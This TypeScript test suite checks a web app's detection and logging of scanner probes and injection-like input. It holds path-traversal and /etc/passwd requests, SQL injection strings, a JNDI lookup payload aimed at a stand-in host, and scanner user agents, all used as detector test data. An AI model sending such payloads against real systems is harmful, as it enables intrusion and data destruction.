import { type AddressInfo, connect } from 'node:net'
import { afterAll, beforeEach, describe, expect, test } from 'vitest'
import type { SecurityEvent } from '../../server/contract/security.ts'
import { type TestApp, blockSource, readEvents, startApp } from '../helpers/app.ts'
import { Visitor } from '../helpers/visitor.ts'

let server: TestApp
beforeEach(async () => {
  server ??= await startApp({ requestsPerMinute: 100_000 })
  await server.app.ledger.flush()
  await server.app.db.query('delete from security_events')
  // Windows of like events begin anew.
  server.clock.now += 3_600_000
  await server.app.ledger.flush()
})
afterAll(() => server.close())

/** In order of their signatures: events of one millisecond have no other. */
const found = async (): Promise<SecurityEvent[]> =>
  (await readEvents(server, { eventType: 'suspicious_activity' })).toSorted((a, b) => (String(a.detail['signature']) < String(b.detail['signature']) ? -1 : 1))
const ask = async (url: string, headers: Record<string, string> = {}, remoteAddress = '203.0.113.66') =>
  await server.app.inject({ url, remoteAddress, headers })

describe('A scan', () => {
  test('for a file of other software is answered as ever, and written down once with its count', async () => {
    for (const path of ['/.env', '/app/.env', '/api/.env.bak?token=secret']) expect((await ask(path)).json()).toMatchObject({ status: 404, code: 'not_found' })
    expect(await found()).toMatchObject([{
      projectId: null, severity: 'medium', count: 3, detail: { kind: 'scan', signature: 'env-file', category: 'path', path: '/.env' },
      metadata: { endpoint: 'GET unknown', ipAddress: '203.0.113.66', errorMessage: 'A path that scanners ask for: env-file' },
    }])
    await ask('/wp-login.php')
    expect((await found()).map(({ detail }) => detail['signature'])).toEqual(['env-file', 'wordpress'])
  })

  test('shows a query only where that is the finding, and no control characters of it', async () => {
    await ask('/.env?token=secret')
    await ask("/x?id=1'%20or%201=1--%1b[31m")
    const [path, injection] = await found()
    expect(path?.detail['path']).toBe('/.env')
    expect(injection?.detail).toMatchObject({ signature: 'sql-tautology', category: 'injection', path: '/x?id=1%27%20or%201=1--%1b[31m' })
  })

  test('with a scanner’s name in its user agent is one on any endpoint, of the project it is about', async () => {
    const answer = await new Visitor(server, { userAgent: 'sqlmap/1.8.2#stable (https://sqlmap.org)' }).call('GET', '/board')
    expect(answer.statusCode).toBe(200)
    expect(await found()).toMatchObject([{
      projectId: String(server.project.id), detail: { kind: 'scan', signature: 'sqlmap', category: 'tool' }, metadata: { origin: 'https://shop.example' },
    }])
  })

  test('that leaves its directory, or breaks its percent codes, is seen as it came over the wire', async () => {
    await server.app.listen({ port: 0, host: '127.0.0.1' })
    const { port } = server.app.server.address() as AddressInfo
    const send = async (path: string): Promise<string> => await new Promise((resolve, reject) => {
      let text = ''
      const socket = connect(port, '127.0.0.1', () => socket.end(`GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`))
      socket.on('data', (part) => (text += part.toString())).on('end', () => resolve(text)).on('error', reject)
    })
    for (const path of ['/static/../../../secret', '/%c0%ae%c0%ae/etc/passwd', `/%2e%2e/${'x'.repeat(500)}`]) {
      expect(await send(path)).toMatch(/^HTTP\/1.1 404 /)
    }
    const events = await found()
    expect(events.map(({ detail, count, metadata }) => [detail['signature'], count, metadata.ipAddress])).toEqual([
      ['etc-passwd', 1, '127.0.0.1'], ['path-traversal', 2, '127.0.0.1'],
    ])
    expect(events.every(({ detail }) => String(detail['path']).length <= 120)).toBe(true)
  })

  test('of a source that is blocked feeds nothing', async () => {
    await blockSource(server, server.project, 'ip', '203.0.113.67')
    const blocked = new Visitor(server, { ip: '203.0.113.67', userAgent: 'nikto/2.5' })
    expect((await blocked.call('GET', '/board')).statusCode).toBe(403)
    expect(await found()).toEqual([])
  })

  test('of a thousand different paths is a few lines', async () => {
    for (let index = 0; index < 1000; index += 1) await ask(`/${index}/backup-${index}.sql`)
    expect(await found()).toMatchObject([{ count: 1000, detail: { signature: 'backup-file' } }])
  })
})

describe('Text that looks like an injection', () => {
  test('in feedback is taken as it is, and noted for little', async () => {
    const visitor = new Visitor(server)
    await visitor.start()
    const body = 'My name is Robert\'); DROP TABLE votes; --'
    expect((await visitor.call('POST', '/feedback', { kind: 'bug', title: 'Names', body, session: visitor.session })).statusCode).toBe(201)
    expect(await found()).toMatchObject([{
      severity: 'low', projectId: String(server.project.id), detail: { kind: 'payload', signature: 'sql-stacked', category: 'injection', field: 'body' },
    }])
    const { rows } = await server.app.db.query<{ body: string }>('select body from feedback order by feedback_id desc limit 1')
    expect(rows).toEqual([{ body }])
  })

  test('in a vote is noted where it stands, also when the vote is refused for it', async () => {
    const visitor = new Visitor(server)
    await visitor.start()
    const answer = await visitor.call('PUT', `/items/${server.project.items[0]}/vote`, {
      value: 1, session: visitor.session, signals: { language: '${jndi:ldap://evil.example/a}' },
    })
    expect(answer.statusCode).toBe(400)
    expect(await found()).toMatchObject([{ severity: 'low', detail: { signature: 'jndi', field: 'signals.language' } }])
  })

  test('that nests and repeats without end is looked at for a while', async () => {
    let nested: unknown = '<script>'
    for (let depth = 0; depth < 500; depth += 1) nested = { a: nested }
    const visitor = new Visitor(server)
    for (const extra of [{ nested }, { many: Array<string>(3000).fill('x').concat('<script>') }]) {
      expect((await visitor.call('POST', '/feedback', { kind: 'bug', title: 'x', session: 'x', ...extra })).statusCode).toBe(400)
    }
    expect(await found()).toEqual([])
  })
})

test('What the widget, moderators, monitors and crawlers ask for is no scan', async () => {
  const visitor = new Visitor(server)
  await visitor.call('GET', '/board')
  for (const item of server.project.items) await visitor.vote(item, 1, { signals: { language: 'en-GB', platform: 'Linux x86_64', timeZone: 'Europe/London' } })
  await visitor.call('POST', '/feedback', { kind: 'idea', title: 'Let us select; then insert', body: 'cats & dogs | <3 (or "birds")', session: visitor.session })
  const { paths = {} } = server.app.swagger() as { paths?: Record<string, unknown> }
  // The stream of events would not end.
  for (const path of Object.keys(paths).filter((name) => !name.endsWith('/stream'))) await ask(path.replace('{projectKey}', server.project.key).replaceAll(/\{\w+\}/g, '1'), { authorization: server.operators.admin })
  for (const path of [
    '/', '/en/', '/robots.txt', '/favicon.ico', '/.well-known/security.txt', '/docs/', '/openapi.json', '/widget.js', '/apple-touch-icon.png', '/sitemap.xml',
    `/api/moderation/v1/votes?project=${server.project.key}&network=203.0.113.0%2F24&cursor=${encodeURIComponent(Buffer.from('[1,2]').toString('base64'))}`,
  ]) await ask(path, { authorization: server.operators.moderator })
  expect((await found()).filter(({ detail }) => ['scan', 'payload'].includes(String(detail['kind'])))).toEqual([])
})
